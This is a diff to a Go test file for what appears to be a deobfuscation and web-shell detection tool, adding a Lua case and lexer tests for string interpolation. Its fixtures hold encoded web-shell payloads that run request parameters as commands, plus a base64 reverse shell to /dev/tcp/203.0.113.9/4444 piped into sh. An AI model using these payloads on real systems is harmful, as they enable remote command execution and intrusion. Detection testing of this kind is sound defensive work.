@@ -68,6 +68,7 @@ func TestLayers(t *testing.T) {
 		{"Java getDecoder", Java, `<% engine.eval(new String(java.util.Base64.getDecoder().decode("` + b64([]byte(`java.lang.Runtime.getRuntime().exec(request.getParameter("c"))`)) + `"))); %>`, "base64", "getRuntime"},
 		{"VBScript Chr", VBScript, `<% Execute(Chr(101) & Chr(118) & Chr(97) & Chr(108) & Chr(32) & Chr(114) & Chr(101) & Chr(113) & Chr(117) & Chr(101) & Chr(115) & Chr(116) & Chr(40) & Chr(34) & Chr(120) & Chr(34) & Chr(41)) %>`, "chr", `eval request("x")`},
 		{"Python", Python, "import base64\nexec(base64.b64decode('" + b64([]byte("import os\nos.system('id')\n")) + "'))\n", "base64", "os.system"},
+		{"Lua", Lua, "--[[ loader ]]\n-- " + "io.popen('x')\nlocal f = loadstring(ngx.decode_base64('" + b64([]byte("local c = ngx.var.arg_c\nio.popen(c):read('*a')\n")) + "'))\nf()\n", "base64", "io.popen(c)"},
 		{"shell blob", Plain, "echo " + b64([]byte("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n")) + " | base64 -d | sh\n", "base64", "/dev/tcp/"},
 	}
 	for _, tc := range tests {
@@ -169,7 +170,7 @@ func FuzzLayers(f *testing.F) {
 	} {
 		f.Add([]byte(s))
 	}
-	syntaxes := []Syntax{PHP, Java, CSharp, VBScript, JavaScript, Python, Perl, Ruby, Shell, Plain}
+	syntaxes := []Syntax{PHP, Java, CSharp, VBScript, JavaScript, Python, Perl, Ruby, Shell, Lua, Plain}
 	f.Fuzz(func(t *testing.T, data []byte) {
 		for _, s := range syntaxes {
 			r := Layers(data, s, Limits{MaxBytes: 1 << 20, Timeout: time.Second})
@@ -362,5 +363,58 @@ func TestJoinsAsStrRules(t *testing.T) {
 	}
 	if joined < 2000 {
 		t.Errorf("%d of 24000 sources folded: the sources do not test the joins", joined)
+	}
+}
+
+// A Python f-string's {expr} holes are what it interpolates; a plain or raw literal's braces
+// are text. Perl's qq{} and qx{} and Ruby's %Q() and %x() interpolate as double quotes do.
+// Lua's .. is one operator that joins literals, and two dots elsewhere stay two.
+func TestPythonFStringsAndLuaConcat(t *testing.T) {
+	for _, tc := range []struct {
+		src  string
+		want []string
+	}{
+		{`os.system(f"ping -c 1 {host}")`, []string{"host"}},
+		{`os.system(F'{a} {b.c}')`, []string{"a", "b.c"}},
+		{`os.system(rf"x {y}")`, []string{"y"}},
+		{`print("{x}".format(x=1), r"{y}")`, nil},
+	} {
+		toks, _ := Lex([]byte(tc.src), Python.Code())
+		var got []string
+		for _, tk := range toks {
+			if tk.Kind == Str {
+				got = append(got, tk.Interp...)
+			}
+		}
+		if !slices.Equal(got, tc.want) {
+			t.Errorf("%s: interpolates %q, want %q", tc.src, got, tc.want)
+		}
+	}
+	r := Layers([]byte("local c = 'io' .. '.po' .. 'pen' -- a comment\n"), Lua, Limits{})
+	if _, text := last(r); !strings.Contains(text, `"io.popen"`) && !strings.Contains(text, `'io.popen'`) {
+		t.Errorf("Lua concatenation not joined: %q", text)
+	}
+	for _, tc := range []struct {
+		s   Syntax
+		src string
+	}{
+		{Perl, "my $o = qx{ls $dir};"}, {Perl, "my $o = qq(cd $dir);"}, {Ruby, "o = %x(ls #{dir})"}, {Ruby, "o = %Q[cd #{dir}]"},
+	} {
+		toks, _ := Lex([]byte(tc.src), tc.s.Code())
+		found := false
+		for _, tk := range toks {
+			if tk.Kind == Str && slices.ContainsFunc(tk.Interp, func(v string) bool { return strings.TrimPrefix(v, "$") == "dir" }) {
+				found = true
+			}
+		}
+		if !found {
+			t.Errorf("%s: the quote-like literal's interpolation is lost: %v", tc.src, toks)
+		}
+	}
+	toks, _ := Lex([]byte("(1..5).each { |i| a..b }"), Ruby.Code())
+	for _, tk := range toks {
+		if tk.Text == ".." {
+			t.Errorf("Ruby lexed a .. operator: %v", toks)
+		}
 	}
 }
